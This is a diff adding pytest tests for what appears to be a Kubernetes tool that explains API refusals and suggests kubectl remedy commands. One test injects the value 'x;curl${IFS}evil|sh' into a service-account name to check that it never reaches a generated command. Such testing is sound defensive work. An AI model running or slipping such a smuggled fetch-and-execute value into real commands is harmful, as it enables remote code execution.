@@ -211,6 +211,33 @@ def test_refusal_names_the_object_and_what_is_wrong_with_it(kind: str, message: 
     assert text in cause["text"]
 
 
+def test_a_command_has_only_names_from_a_message() -> None:
+    """Who may write events would otherwise have the reader run a command."""
+    said = (
+        f'{FORBIDDEN}volume with secret.secretName="key" is not allowed because service account %s does not reference'
+    )
+    good = refused("ReplicaSet", said % "runner", a_node("n1"))
+    assert good["remedies"][0]["command"].startswith("kubectl patch serviceaccount runner -n shop -p")
+    bad = refused("ReplicaSet", said % "x;curl${IFS}evil|sh", a_node("n1"))
+    assert all("evil" not in str(remedy["command"]) for remedy in bad["remedies"])
+
+
+def test_pull_secrets_of_an_account_are_not_replaced_by_a_command() -> None:
+    """A patch of imagePullSecrets replaces the whole list."""
+    said = 'imagePullSecret.Name="pull" is not allowed because service account runner does not reference that'
+    cause = refused("ReplicaSet", FORBIDDEN + said, a_node("n1"))
+    assert cause["code"] == "secret-not-listed"
+    assert cause["remedies"][0]["command"] is None
+
+
+@pytest.mark.parametrize(("claims", "code"), [(1, "template-invalid"), (0, "webhook-made-invalid")])
+def test_volumes_of_claim_templates_are_the_controllers(claims: int, code: str) -> None:
+    message = 'create Pod web-0 in StatefulSet web failed error: Pod "web-0" is invalid: spec.volumes[0].name: bad'
+    templates = [{"metadata": {"name": "my_data"}, "spec": {}}] * claims
+    workload = a_workload("StatefulSet", {"volumeClaimTemplates": templates})
+    assert refused("StatefulSet", message, a_node("n1"), workload=workload)["code"] == code
+
+
 def test_exceeded_quota_has_amounts_and_what_would_be_enough() -> None:
     message = (
         f"{FORBIDDEN}exceeded quota: team, requested: requests.cpu=500m, used: requests.cpu=4, limited: requests.cpu=4"
